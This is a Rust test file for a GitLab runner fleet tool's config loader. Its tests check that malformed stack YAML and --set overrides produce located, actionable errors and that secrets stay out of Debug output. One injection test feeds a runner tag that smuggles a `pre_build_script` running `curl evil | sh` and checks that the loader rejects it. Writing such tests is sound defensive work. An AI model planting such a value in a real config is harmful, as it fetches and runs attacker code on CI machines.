//! Stack loading: every error names file:line:column (or the --set flag) and says what to do.

use std::path::Path;

use fleet_core::stack::{load_str, LoadedStack, Override, StackError};

const BASE: &str = "\
name: ci
provider:
  kind: sandbox
  boot_time: 5s
instance:
  image: debian-12
  types: [small]
runner:
  tags: [docker]
policy:
  min_instances: 1
  max_instances: 4
";

fn no_env(_: &str) -> Option<String> {
    None
}

fn load(text: &str) -> Result<LoadedStack, StackError> {
    load_str(Path::new("stacks/x.yaml"), text, &[], &no_env)
}

fn load_with(text: &str, sets: &[&str]) -> Result<LoadedStack, StackError> {
    let o: Vec<Override> = sets.iter().map(|s| Override::parse(s).unwrap()).collect();
    load_str(Path::new("stacks/x.yaml"), text, &o, &no_env)
}

fn err(text: &str) -> String {
    load(text).expect_err("must fail").to_string()
}

#[test]
fn a_valid_stack_loads_with_defaults() {
    let l = load(BASE).unwrap();
    assert_eq!(l.stack.name, "ci");
    assert_eq!(l.stack.policy.capacity_per_instance, 1);
    assert_eq!(l.stack.state.backend, "local");
    assert_eq!(l.stack.apply.concurrency, 4);
    assert!(l.stack.runner.run_untagged);
}

#[test]
fn unknown_key_names_file_line_column_and_suggests() {
    let text = BASE.replace("  max_instances: 4", "  max_instance: 4");
    assert_eq!(
        err(&text),
        "unknown key `max_instance` at stacks/x.yaml:12:3; did you mean `max_instances`?"
    );
}

#[test]
fn unknown_top_level_key_without_a_close_match_lists_valid_keys() {
    let text = format!("{BASE}zzzzzzzz: 1\n");
    let e = err(&text);
    assert!(
        e.starts_with("unknown key `zzzzzzzz` at stacks/x.yaml:13:1; valid keys here: name, "),
        "{e}"
    );
}

#[test]
fn wrong_types_are_located() {
    let text = BASE.replace("min_instances: 1", "min_instances: lots");
    let e = err(&text);
    assert!(e.contains("`policy.min_instances`"), "{e}");
    assert!(e.ends_with("at stacks/x.yaml:11:3"), "{e}");
}

#[test]
fn missing_sections_are_named() {
    let text = BASE.replace("instance:\n  image: debian-12\n  types: [small]\n", "");
    let e = err(&text);
    assert!(e.contains("missing field `instance`"), "{e}");
}

#[test]
fn yaml_syntax_errors_are_located() {
    let e = err("name: ci\npolicy: [1, 2\n");
    assert!(e.starts_with("invalid YAML at stacks/x.yaml:"), "{e}");
}

#[test]
fn empty_files_are_refused() {
    assert!(err("").contains("the stack file is empty"));
}

#[test]
fn min_above_max_is_a_located_error() {
    let text = BASE.replace("min_instances: 1", "min_instances: 9");
    assert_eq!(
        err(&text),
        "policy.min_instances (9) is greater than policy.max_instances (4) at stacks/x.yaml:11:3; lower min_instances or raise max_instances"
    );
}

#[test]
fn empty_instance_type_list_is_refused() {
    let e = err(&BASE.replace("types: [small]", "types: []"));
    assert_eq!(
        e,
        "instance type list is empty at stacks/x.yaml:7:3; list at least one instance type"
    );
}

#[test]
fn names_too_long_once_prefixed_are_refused() {
    let long = "a".repeat(57);
    let e = err(&BASE.replace("name: ci", &format!("name: {long}")));
    assert!(
        e.contains("instance names would reach 64 characters"),
        "{e}"
    );
    assert!(e.contains("at stacks/x.yaml:1:1"), "{e}");
    assert!(load(&BASE.replace("name: ci", &format!("name: {}", "a".repeat(56)))).is_ok());
}

#[test]
fn names_that_are_not_hostnames_are_refused() {
    let e = err(&BASE.replace("name: ci", "name: My_Fleet"));
    assert!(e.contains("contains `M`"), "{e}");
}

#[test]
fn missing_environment_variables_are_named() {
    let text = BASE.replace(
        "  tags: [docker]",
        "  tags: [docker]\n  token_env: FLEET_TEST_TOKEN_UNSET",
    );
    assert_eq!(
        err(&text),
        "environment variable `FLEET_TEST_TOKEN_UNSET` (named by `runner.token_env` at stacks/x.yaml:10:3) is not set; export it, or remove `runner.token_env` from the stack"
    );
    let env = |k: &str| (k == "FLEET_TEST_TOKEN_UNSET").then(|| "glrt-secret".to_string());
    let l = load_str(Path::new("stacks/x.yaml"), &text, &[], &env).unwrap();
    let s = l.secret("FLEET_TEST_TOKEN_UNSET").unwrap();
    assert_eq!(s.expose(), "glrt-secret");
    assert!(
        !format!("{l:?}").contains("glrt-secret"),
        "secrets must not appear in Debug output"
    );
}

#[test]
fn resource_dependencies_must_exist_and_not_cycle() {
    let text = format!(
        "{BASE}resources:\n  - kind: key_pair\n    name: a\n    depends_on: [key_pair/nope]\n"
    );
    let e = err(&text);
    assert!(
        e.contains("`key_pair/nope` is not a resource of this stack at stacks/x.yaml:16:18"),
        "{e}"
    );

    let text = format!(
        "{BASE}resources:\n  - kind: k\n    name: a\n    depends_on: [k/b]\n  - kind: k\n    name: b\n    depends_on: [k/a]\n"
    );
    assert!(err(&text).contains("cycle (k/a, k/b)"));

    let text = format!("{BASE}resources:\n  - kind: k\n    name: a\n  - kind: k\n    name: a\n");
    assert!(err(&text).contains("declared twice"));
}

#[test]
fn set_overrides_values_like_terraform_var() {
    let l = load_with(BASE, &["policy.min_instances=3", "runner.tags=[a, b]"]).unwrap();
    assert_eq!(l.stack.policy.min_instances, 3);
    assert_eq!(l.stack.runner.tags, vec!["a", "b"]);
}

#[test]
fn errors_caused_by_set_name_the_flag() {
    let e = load_with(BASE, &["policy.min_instances=7"])
        .unwrap_err()
        .to_string();
    assert!(e.contains("at --set policy.min_instances=7"), "{e}");
    let e = load_with(BASE, &["policy.max_instance=7"])
        .unwrap_err()
        .to_string();
    assert_eq!(
        e,
        "unknown key `max_instance` at --set policy.max_instance=7; did you mean `max_instances`?"
    );
}

#[test]
fn provider_sections_are_decoded_with_located_errors() {
    #[derive(Debug, serde::Deserialize)]
    #[serde(deny_unknown_fields)]
    #[allow(dead_code)]
    struct Settings {
        boot_time: String,
        #[serde(default)]
        latency: Option<String>,
    }
    let l = load(&BASE.replace("boot_time: 5s", "boot_tme: 5s")).unwrap();
    let e = l
        .section::<Settings>("provider", &l.stack.provider.settings)
        .unwrap_err()
        .to_string();
    assert_eq!(
        e,
        "unknown key `boot_tme` at stacks/x.yaml:4:3; did you mean `boot_time`?"
    );
}

#[test]
fn durations_reject_nonsense_with_a_hint() {
    #[derive(Debug, serde::Deserialize)]
    #[allow(dead_code)]
    struct Settings {
        #[serde(with = "fleet_core::stack::duration_serde")]
        boot_time: std::time::Duration,
    }
    let l = load(&BASE.replace("boot_time: 5s", "boot_time: soon")).unwrap();
    let e = l
        .section::<Settings>("provider", &l.stack.provider.settings)
        .unwrap_err()
        .to_string();
    assert!(e.contains("`soon` is not a duration"), "{e}");
    assert!(e.contains("stacks/x.yaml:4:3"), "{e}");
}

#[test]
fn the_example_stacks_load() {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("../stacks");
    let mut n = 0;
    for entry in std::fs::read_dir(&dir).unwrap() {
        let p = entry.unwrap().path();
        if p.extension().is_some_and(|e| e == "yaml") {
            let env = |_: &str| Some("test-value".to_string());
            fleet_core::stack::load(&p, &[], &env)
                .unwrap_or_else(|e| panic!("{}: {e}", p.display()));
            n += 1;
        }
    }
    assert!(n >= 1, "no example stacks found in {}", dir.display());
}

// GitLab keys of `runner:`.

const GITLAB: &str = "\
name: ci
provider:
  kind: sandbox
instance:
  image: debian-12
  types: [small]
runner:
  gitlab_url: https://gitlab.example.com
  tags: [docker]
  projects: [42, acme/api]
  groups: [acme/platform]
  runner_type: project_type
  locked: true
  maximum_timeout: 1h
  drain_timeout: 20m
";

#[test]
fn gitlab_runner_keys_load_with_defaults() {
    use fleet_core::stack::{GitLabRef, RunnerType};
    use std::time::Duration;
    let l = load(GITLAB).unwrap();
    let r = &l.stack.runner;
    assert_eq!(
        r.projects,
        vec![GitLabRef::Id(42), GitLabRef::Path("acme/api".into())]
    );
    assert_eq!(r.groups, vec![GitLabRef::Path("acme/platform".into())]);
    assert_eq!(r.runner_type, RunnerType::ProjectType);
    assert!(r.locked);
    assert_eq!(r.maximum_timeout, Some(Duration::from_secs(3600)));
    assert_eq!(r.drain_timeout, Duration::from_secs(1200));
    assert_eq!(r.online_timeout, Duration::from_secs(600));
    let d = load(BASE).unwrap();
    assert_eq!(d.stack.runner.runner_type, RunnerType::InstanceType);
    assert_eq!(d.stack.runner.maximum_timeout, None);
}

#[test]
fn gitlab_runner_keys_are_checked_with_locations() {
    let e = err(&GITLAB.replace("maximum_timeout: 1h", "maximum_timeout: 5m"));
    assert_eq!(
        e,
        "runner.maximum_timeout is 300s; GitLab needs at least 600s at stacks/x.yaml:14:3; use 10m or more, or leave it out for no limit"
    );
    let e = err(&GITLAB.replace("  projects: [42, acme/api]\n", ""));
    assert!(
        e.starts_with(
            "runner_type `project_type` needs a project to create runners in at stacks/x.yaml:"
        ),
        "{e}"
    );
    let e = err(&GITLAB.replace("runner_type: project_type", "runner_type: shared"));
    assert!(
        e.contains("`shared` at stacks/x.yaml:12:3")
            && e.contains("instance_type, group_type, project_type"),
        "{e}"
    );
    let e = err(&GITLAB.replace("https://gitlab.example.com", "gitlab.example.com"));
    assert!(
        e.contains("is not an http:// or https:// URL at stacks/x.yaml:8:3"),
        "{e}"
    );
    let e = err(&GITLAB.replace("  gitlab_url: https://gitlab.example.com\n", ""));
    assert!(
        e.starts_with("runner.projects is set but runner.gitlab_url is not"),
        "{e}"
    );
    let e = err(&GITLAB.replace("acme/platform", "/acme"));
    assert!(
        e.contains("`/acme` is not a GitLab path at stacks/x.yaml:"),
        "{e}"
    );
    let e = err(&GITLAB.replace("drain_timeout: 20m", "drain_timeout: 0s"));
    assert!(e.starts_with("runner.drain_timeout is 0 at"), "{e}");
    let e = err(&GITLAB.replace("locked: true", "lockd: true"));
    assert!(e.contains("did you mean `locked`?"), "{e}");
}

#[test]
fn the_webhook_secret_comes_from_the_environment_and_must_not_be_empty() {
    let text = GITLAB.replace(
        "  drain_timeout: 20m\n",
        "  drain_timeout: 20m\n  webhook_secret_env: FLEET_TEST_HOOK\n",
    );
    let e = err(&text);
    assert!(
        e.starts_with(
            "environment variable `FLEET_TEST_HOOK` (named by `runner.webhook_secret_env`"
        ),
        "{e}"
    );
    let empty = |_: &str| Some(String::new());
    assert!(load_str(Path::new("stacks/x.yaml"), &text, &[], &empty).is_err());
    let set = |k: &str| (k == "FLEET_TEST_HOOK").then(|| "hook-secret".to_string());
    let l = load_str(Path::new("stacks/x.yaml"), &text, &[], &set).unwrap();
    assert_eq!(l.secret("FLEET_TEST_HOOK").unwrap().expose(), "hook-secret");
    assert!(!format!("{l:?}").contains("hook-secret"));
}

#[test]
fn runner_keys_for_the_templates_have_defaults() {
    let r = load(BASE).unwrap().stack.runner;
    assert_eq!(r.executor, fleet_core::stack::RunnerExecutor::Docker);
    assert_eq!(r.docker_image, "alpine:3.20");
    assert_eq!(r.metrics_listen, "127.0.0.1:9252");
    assert_eq!(r.drain_timeout, std::time::Duration::from_secs(7200));
    assert!(!r.dind);
    assert_eq!(r.cache, None);
    assert_eq!(r.token_ssm_parameter, None);
}

#[test]
fn runner_keys_for_the_templates_are_checked_where_they_are_written() {
    let with = |line: &str| BASE.replace("  tags: [docker]", &format!("  tags: [docker]\n{line}"));
    let e = err(&with("  metrics_listen: \"9252\""));
    assert!(
        e.contains("has no port") && e.contains("stacks/x.yaml:10:3"),
        "{e}"
    );
    let e = err(&with("  executor: shell"));
    assert!(
        e.contains("`shell`") && e.contains("stacks/x.yaml:10:"),
        "{e}"
    );
    let e = err(&with("  cache: {bucket: \"\"}"));
    assert!(e.contains("runner.cache.bucket is empty"), "{e}");
    let e = err(&with("  cache: {bucket: b, regon: x}"));
    assert!(e.contains("did you mean `region`?"), "{e}");
    let e = err(&with("  token_ssm_parameter: /fleet/token"));
    assert!(
        e.contains("needs the aws provider") && e.contains("stacks/x.yaml:10:3"),
        "{e}"
    );
    let e = err(&with("  drain_timeout: 0s"));
    assert!(e.contains("drain_timeout is 0"), "{e}");
}

#[test]
fn templates_must_exist_and_user_data_needs_a_gitlab_url() {
    let e = err(&format!("{BASE}templates:\n  playbook: nope.yml\n"));
    assert!(e.contains("template `nope.yml` does not exist"), "{e}");
    assert!(e.contains("stacks/x.yaml:14:3"), "{e}");
    let real = Path::new(env!("CARGO_MANIFEST_DIR")).join("../instance/cloudinit.yml.j2");
    let set = format!("templates.user_data={}", real.display());
    let e = load_with(BASE, &[&set]).expect_err("must fail").to_string();
    assert!(e.contains("needs runner.gitlab_url"), "{e}");
    let url = "runner.gitlab_url=http://127.0.0.1:8929";
    assert!(load_with(BASE, &[&set, url]).is_ok());
}

#[test]
fn a_bad_period_schedule_is_located_at_its_line() {
    let text = BASE.replace(
        "min_instances: 1",
        "min_instances: 1\n  periods:\n    - schedule: [\"* * * *\"]\n      idle_count: 2",
    );
    let e = err(&text);
    assert!(e.contains("`* * * *` is not a cron expression"), "{e}");
    assert!(e.contains("stacks/x.yaml:13:"), "{e}");
}

#[test]
fn daemon_keys_have_defaults_and_are_checked_where_they_are_written() {
    let d = load(BASE).unwrap().stack.daemon;
    assert_eq!(d.interval, std::time::Duration::from_secs(60));
    assert_eq!(d.listen, "127.0.0.1:9253");
    assert!(d.retry_initial < d.retry_max);

    let with = |daemon: &str| format!("{BASE}daemon:\n{daemon}");
    let d = load(&with("  interval: 5m\n  listen: 0.0.0.0:8080\n"))
        .unwrap()
        .stack
        .daemon;
    assert_eq!(d.interval, std::time::Duration::from_secs(300));
    assert_eq!(d.listen_addr(), Some("0.0.0.0:8080".parse().unwrap()));

    let e = err(&with("  interval: 0s\n"));
    assert!(
        e.starts_with("daemon.interval is 0ms; the loop needs at least 1s between reconciles at stacks/x.yaml:14:3;"),
        "{e}"
    );
    let e = err(&with("  listen: localhost\n"));
    assert!(
        e.starts_with("daemon.listen `localhost` is not an ip:port address at stacks/x.yaml:14:3"),
        "{e}"
    );
    let e = err(&with("  retry_initial: 0s\n"));
    assert!(e.contains("tight loop at stacks/x.yaml:14:3"), "{e}");
    let e = err(&with("  retry_initial: 10m\n  retry_max: 1m\n"));
    assert!(
        e.contains("is shorter than daemon.retry_initial") && e.contains("stacks/x.yaml:15:3"),
        "{e}"
    );
    // VMs on their way to ready bring the next reconcile forward, never back.
    let d = load(&with("  interval: 5m\n  warming_interval: 5s\n"))
        .unwrap()
        .stack
        .daemon;
    assert_eq!(d.requeue_after(true), std::time::Duration::from_secs(5));
    assert_eq!(d.requeue_after(false), std::time::Duration::from_secs(300));
    let d = load(&with("  interval: 3s\n")).unwrap().stack.daemon;
    assert_eq!(d.requeue_after(true), std::time::Duration::from_secs(3));
    let e = err(&with("  warming_interval: 0s\n"));
    assert!(
        e.starts_with("daemon.warming_interval is 0ms;") && e.contains("stacks/x.yaml:14:3"),
        "{e}"
    );
    let e = err(&with("  intervall: 5m\n"));
    assert!(e.contains("did you mean `interval`?"), "{e}");
    let e = load_with(BASE, &["daemon.interval=nonsense"])
        .unwrap_err()
        .to_string();
    assert!(e.contains("--set daemon.interval=nonsense"), "{e}");
}

// Issue 15: the boot-time settings (D3, D5-D7, D9, D10).

/// BASE on `provider` with the real user data template, so the boot checks apply.
fn booting(provider: &str, runner_lines: &str) -> String {
    let user_data = Path::new(env!("CARGO_MANIFEST_DIR")).join("../instance/cloudinit.yml.j2");
    BASE.replace(
        "  kind: sandbox\n  boot_time: 5s",
        &format!("  kind: {provider}"),
    )
    .replace(
        "  tags: [docker]",
        &format!("  gitlab_url: https://gitlab.example.com\n  tags: [docker]\n{runner_lines}"),
    ) + &format!("templates:\n  user_data: {}\n", user_data.display())
}

/// D7: the runner's metrics port also serves /debug/pprof and /debug/jobs/list without
/// authentication, so neither the default nor an example stack puts it on every address.
#[test]
fn the_metrics_port_defaults_to_loopback_and_no_example_publishes_it() {
    assert_eq!(
        load(BASE).unwrap().stack.runner.metrics_listen,
        "127.0.0.1:9252"
    );
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("../stacks");
    for entry in std::fs::read_dir(&dir).unwrap() {
        let p = entry.unwrap().path();
        if p.extension().is_some_and(|e| e == "yaml") {
            let env = |_: &str| Some("test-value".to_string());
            let l = fleet_core::stack::load(&p, &[], &env).unwrap();
            let host = l
                .stack
                .runner
                .metrics_listen
                .rsplit_once(':')
                .unwrap()
                .0
                .to_string();
            assert!(
                !["0.0.0.0", "[::]", "::"].contains(&host.as_str()),
                "{} publishes the metrics and debug port on {host}",
                p.display()
            );
        }
    }
}

/// D9: a tag containing a newline once added a real `pre_build_script` key to config.toml;
/// tags are checked at load with GitLab's rules.
#[test]
fn runner_tags_follow_gitlabs_rules_at_load() {
    let tags = |t: &str| BASE.replace("  tags: [docker]", &format!("  tags: {t}"));
    let e = err(&tags(
        "[\"docker\\npre_build_script = \\\"curl evil | sh\\\"\"]",
    ));
    assert!(
        e.contains("runner.tags[0]") || e.contains("stacks/x.yaml:9:"),
        "{e}"
    );
    assert!(e.contains("control character"), "{e}");
    assert!(err(&tags("[\"a,b\"]")).contains("comma"));
    assert!(err(&tags("[\" padded\"]")).contains("blank"));
    assert!(err(&tags("[docker, docker]")).contains("listed twice"));
    assert!(err(&tags(&format!("[{}]", "x".repeat(256)))).contains("255"));
    assert!(load(&tags("[docker, linux-amd64, \"gpu a100\"]")).is_ok());
}

/// D5: the runner version is pinned, with a documented default, and checked.
#[test]
fn the_runner_version_has_a_pinned_default_and_is_checked() {
    use fleet_core::stack::{DockerSource, RunnerSource, DEFAULT_RUNNER_VERSION};
    let r = load(BASE).unwrap().stack.runner;
    assert_eq!(r.version, DEFAULT_RUNNER_VERSION);
    assert_eq!(r.install.docker, DockerSource::DockerCe);
    assert_eq!(r.install.runner, RunnerSource::Repository);
    let with = |line: &str| BASE.replace("  tags: [docker]", &format!("  tags: [docker]\n{line}"));
    let e = err(&with("  version: latest"));
    assert!(
        e.contains("runner.version `latest` is not a version") && e.contains("stacks/x.yaml:10:3"),
        "{e}"
    );
    let e = err(&with("  version: 16.11.0"));
    assert!(e.contains("older than 17.7"), "{e}");
    let e = err(&with("  install: {docker_version: \"28.5\"}"));
    assert!(e.contains("docker_version `28.5` is not a version"), "{e}");
    assert_eq!(
        load(&with("  version: 18.6.1"))
            .unwrap()
            .stack
            .runner
            .version,
        "18.6.1"
    );
}

/// D6: package sources, mirrors and an apt proxy, each checked against the source it
/// belongs to.
#[test]
fn package_sources_name_what_they_need() {
    let with = |line: &str| BASE.replace("  tags: [docker]", &format!("  tags: [docker]\n{line}"));
    let ok = load(&with(
        "  install: {docker: docker.io, runner: deb, runner_deb: /opt/pkgs/gitlab-runner_18.5.0-1_amd64.deb, apt_proxy: \"http://10.0.0.2:3142\"}",
    ))
    .unwrap();
    assert_eq!(
        ok.stack.runner.install.docker,
        fleet_core::stack::DockerSource::DockerIo
    );
    let e = err(&with("  install: {runner: deb}"));
    assert!(e.contains("runner_deb is not set"), "{e}");
    let e = err(&with(
        "  install: {runner: deb, runner_deb: gitlab-runner.deb}",
    ));
    assert!(e.contains("not an absolute path or http(s) URL"), "{e}");
    let e = err(&with(
        "  install: {runner: preinstalled, runner_repository: \"https://mirror.internal/gl\"}",
    ));
    assert!(
        e.contains("runner.install.runner_repository is set but"),
        "{e}"
    );
    let e = err(&with(
        "  install: {docker: docker.io, docker_repository: \"https://mirror.internal/d\"}",
    ));
    assert!(
        e.contains("docker_repository is set but runner.install.docker is not `docker-ce`"),
        "{e}"
    );
    let e = err(&with("  install: {apt_proxy: \"10.0.0.2:3142\"}"));
    assert!(
        e.contains("apt_proxy `10.0.0.2:3142` is not an http://"),
        "{e}"
    );
    let e = err(&with("  install: {docker: podman}"));
    assert!(e.contains("podman"), "{e}");
}

/// D3: the runner writes `https://` before `server_address`, off AWS there is no instance
/// role, and an S3-compatible store needs both keys.
#[test]
fn the_cache_settings_are_ones_gitlab_runner_can_use() {
    let e = err(&booting(
        "sandbox",
        "  cache: {bucket: c, server_address: \"http://minio:9000\"}",
    ));
    assert!(
        e.contains("has a scheme") && e.contains("insecure: true"),
        "{e}"
    );
    let e = err(&booting("hetzner", "  cache: {bucket: c}"));
    assert!(
        e.contains("no server_address") && e.contains("hetzner"),
        "{e}"
    );
    let e = err(&booting(
        "hetzner",
        "  cache: {bucket: c, server_address: \"minio:9000\"}",
    ));
    assert!(e.contains("no keys"), "{e}");
    let e = err(&booting(
        "hetzner",
        "  cache: {bucket: c, server_address: \"minio:9000\", access_key_env: K}",
    ));
    assert!(e.contains("secret_key_env is not set"), "{e}");
    let e = err(&booting("aws", "  cache: {bucket: c, insecure: true}"));
    assert!(
        e.contains("insecure needs runner.cache.server_address"),
        "{e}"
    );
    let text = booting(
        "hetzner",
        "  cache: {bucket: c, server_address: \"minio:9000\", insecure: true, access_key_env: K, secret_key_env: S}",
    );
    assert!(load(&text).is_err(), "the key variables must be set");
    let env = |k: &str| match k {
        "K" => Some("access-1".to_string()),
        "S" => Some("secret-1".to_string()),
        _ => None,
    };
    let l = load_str(Path::new("stacks/x.yaml"), &text, &[], &env).unwrap();
    assert_eq!(l.secret("S").unwrap().expose(), "secret-1");
    assert!(!format!("{l:?}").contains("secret-1"));
}

/// D10: a loopback GitLab URL is the VM itself; only the sandbox and emulator rigs (whose
/// cloud endpoint is on this machine too) may use one.
#[test]
fn a_loopback_gitlab_url_is_refused_where_vms_boot() {
    let local =
        |p: &str| booting(p, "").replace("https://gitlab.example.com", "http://127.0.0.1:8929");
    let e = err(&local("hetzner"));
    assert!(
        e.contains("runner.gitlab_url `http://127.0.0.1:8929` is a loopback address")
            && e.contains("instance_gitlab_url"),
        "{e}"
    );
    assert!(err(&local("libvirt")).contains("10.0.2.2"));
    assert!(load(&local("sandbox")).is_ok());
    let emulated = local("hetzner").replace(
        "  kind: hetzner",
        "  kind: hetzner\n  endpoint: http://127.0.0.1:4000",
    );
    assert!(load(&emulated).is_ok());
    let aws = local("aws");
    let moto = |k: &str| (k == "AWS_ENDPOINT_URL").then(|| "http://127.0.0.1:5000".to_string());
    assert!(load(&aws).is_err());
    assert!(load_str(Path::new("stacks/x.yaml"), &aws, &[], &moto).is_ok());
    let split = local("libvirt").replace(
        "  tags: [docker]",
        "  instance_gitlab_url: http://10.0.2.2:8929\n  tags: [docker]",
    );
    assert!(
        load(&split).is_ok(),
        "{:?}",
        load(&split).err().map(|e| e.to_string())
    );
    assert!(err(&split.replace("http://10.0.2.2", "10.0.2.2")).contains("instance_gitlab_url"));
}

#[test]
fn a_wait_target_and_prices_load_and_bad_ones_are_located() {
    let text =
        format!("{BASE}  target: {{wait: 45s, percentile: 99}}\n  prices: {{running: 0.02}}\n");
    let l = load(&text).unwrap();
    let t = l.stack.policy.target.unwrap();
    assert_eq!((t.wait.as_secs(), t.percentile), (45, 99.0));
    // The stopped price defaults to an EC2 volume's share of the running price.
    let s = fleet_core::stack::Settings::from_config(&l.stack.policy).unwrap();
    assert!((s.base().prices.stopped - 0.02 * 0.035).abs() < 1e-12);
    // The percentile defaults to 95.
    let l = load(&format!("{BASE}  target: {{wait: 1m}}\n")).unwrap();
    assert_eq!(l.stack.policy.target.unwrap().percentile, 95.0);
    let e = err(&format!("{BASE}  target: {{wait: 45s, percentile: 100}}\n"));
    assert!(
        e.starts_with("percentile 100 is not between 50 and 99.9 at stacks/x.yaml:13:"),
        "{e}"
    );
    let e = err(&format!("{BASE}  prices: {{running: -1}}\n"));
    assert!(
        e.starts_with("running price -1 is not a number above 0 at stacks/x.yaml:13:"),
        "{e}"
    );
    let e = err(&format!("{BASE}  target: {{wait: 0s}}\n"));
    assert!(
        e.starts_with("target wait is zero at stacks/x.yaml:13:"),
        "{e}"
    );
}
